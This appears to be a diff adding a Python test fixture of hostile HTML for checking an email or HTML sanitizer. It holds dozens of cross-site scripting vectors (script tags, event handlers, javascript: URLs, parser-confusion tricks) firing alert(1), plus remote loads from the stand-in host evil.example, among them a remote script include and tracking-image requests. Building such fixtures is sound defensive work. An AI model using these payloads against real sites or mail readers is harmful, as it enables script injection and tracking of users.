@@ -1,0 +1,112 @@
+"""HTML that means harm, as mail brings it: scripts in every corner that browsers know, requests to evil.example.
+
+Each piece closes what it opens, so that all of them can stand on one page; what cannot be closed stands at the end.
+"""
+
+from __future__ import annotations
+
+_RUN = "alert(1)"
+_HOST = "http://evil.example"
+
+_SCRIPTS = [
+    f"<script>{_RUN}</script>",
+    f"<SCRIPT/x>{_RUN}</SCRIPT>",
+    f"<script src={_HOST}/x.js></script>",
+    f'<script type="module">{_RUN}</script>',
+    f"<script src=data:text/javascript,{_RUN}></script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f'<svg><script href="data:text/javascript,{_RUN}"/></svg>',
+    f"<math><mtext><script>{_RUN}</script></mtext></math>",
+    f"<noscript><p title='</noscript><script>{_RUN}</script>'></noscript>",
+    f"<xmp><p title='</xmp><script>{_RUN}</script>'></xmp>",
+    f"<textarea></textarea><script>{_RUN}</script>",
+    f"<title></title><script>{_RUN}</script>",
+    f"<!--><script>{_RUN}</script>-->",
+    f"<!--x--!><script>{_RUN}</script>-->",
+    f"<![CDATA[<script>{_RUN}</script>]]>",
+    f"<?xml ?><script>{_RUN}</script>",
+    f'<div title="--&gt;"><script>{_RUN}</script></div>',
+    f"<template><script>{_RUN}</script></template><script>{_RUN}</script>",
+    f"<select><script>{_RUN}</script></select>",
+    f"<table><script>{_RUN}</script></table>",
+    f"<frameset><script>{_RUN}</script></frameset>",
+    f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
+    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'></style></svg>",
+    f"<math><style><img src onerror={_RUN}></style></math>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}></style></form>",
+]
+_HANDLERS = [
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src=x/onerror={_RUN}>",
+    "<img src=x onerror='ale\\u0072t(1)'>",
+    "<img src=x onerror=&#97;lert(1)>",
+    f"<image src=x onerror={_RUN}>",
+    f"<img srcset=',,,,,x' onerror={_RUN}>",
+    f"<svg onload={_RUN}></svg>",
+    f"<svg/onload={_RUN}></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
+    f"<svg><set onbegin={_RUN} attributeName=x></svg>",
+    f"<body onload={_RUN}>",
+    f"<body onpageshow={_RUN}>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<p tabindex=1 autofocus onfocus={_RUN}>x</p>",
+    f"<video src=x onerror={_RUN}></video>",
+    f"<video><source onerror={_RUN}></video>",
+    f"<audio src=x onerror={_RUN}></audio>",
+    f"<details open ontoggle={_RUN}>x</details>",
+    f"<marquee onstart={_RUN}>x</marquee>",
+    f"<object data=x onerror={_RUN}></object>",
+    f"<embed src=x onerror={_RUN}>",
+    f"<iframe onload={_RUN}></iframe>",
+    f"<link rel=stylesheet href=x onerror={_RUN}>",
+    f"<style onload={_RUN}></style>",
+    f"<p style='animation:x' onanimationstart={_RUN}>x</p><style>@keyframes x{{}}</style>",
+    f"<a href=x onmouseover={_RUN}>x</a>",
+    f"<isindex type=image src=1 onerror={_RUN}>",
+]
+_ADDRESSES = [
+    f"<iframe src='javascript:{_RUN}'></iframe>",
+    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
+    f"<iframe src='data:text/html,<script>{_RUN}</script>'></iframe>",
+    f"<object data='javascript:{_RUN}'></object>",
+    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
+    f"<embed src='javascript:{_RUN}'>",
+    f"<a href='javascript:{_RUN}'>x</a>",
+    f"<a href=' java\nscript:{_RUN}'>x</a>",
+    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
+    f"<svg><a href='javascript:{_RUN}'><text>x</text></a></svg>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x'/></svg>",
+    f"<form action='javascript:{_RUN}'><button>x</button></form>",
+    f"<button formaction='javascript:{_RUN}'>x</button>",
+    f"<img src='javascript:{_RUN}'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+]
+_REQUESTS = [
+    f"<img src={_HOST}/1.png>",
+    "<img src=//evil.example/2.png>",
+    f"<img srcset='{_HOST}/3.png 1x'>",
+    f"<picture><source srcset={_HOST}/4.png><img></picture>",
+    f"<p style='background:url({_HOST}/5.png)'>x</p>",
+    f"<table background={_HOST}/6.png><tr><td>x</table>",
+    f"<video poster={_HOST}/7.png></video>",
+    f"<video src={_HOST}/8.mp4 autoplay></video>",
+    f"<audio src={_HOST}/9.mp3 autoplay></audio>",
+    f"<iframe src={_HOST}/10></iframe>",
+    f"<object data={_HOST}/11></object>",
+    f"<embed src={_HOST}/12>",
+    f"<link rel=stylesheet href={_HOST}/13.css>",
+    f"<link rel=prefetch href={_HOST}/14>",
+    f"<link rel=preload as=image href={_HOST}/15.png>",
+    f"<style>@import '{_HOST}/16.css';</style>",
+    f"<style>p {{ background: url({_HOST}/17.png) }}</style>",
+    f"<style>@font-face {{ font-family: x; src: url({_HOST}/18) }} p {{ font-family: x }}</style>",
+    f"<svg><image href={_HOST}/19.png /></svg>",
+    f"<svg><use href={_HOST}/20.svg#x /></svg>",
+    f"<input type=image src={_HOST}/21.png>",
+    f"<bgsound src={_HOST}/22.wav>",
+    f"<meta http-equiv=refresh content='0;url={_HOST}/23'>",
+    f"<base href={_HOST}/><img src=24.png>",
+]
+_UNCLOSED = [f"<plaintext><script>{_RUN}</script>"]
+
+VECTORS = [*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_REQUESTS, *_UNCLOSED]
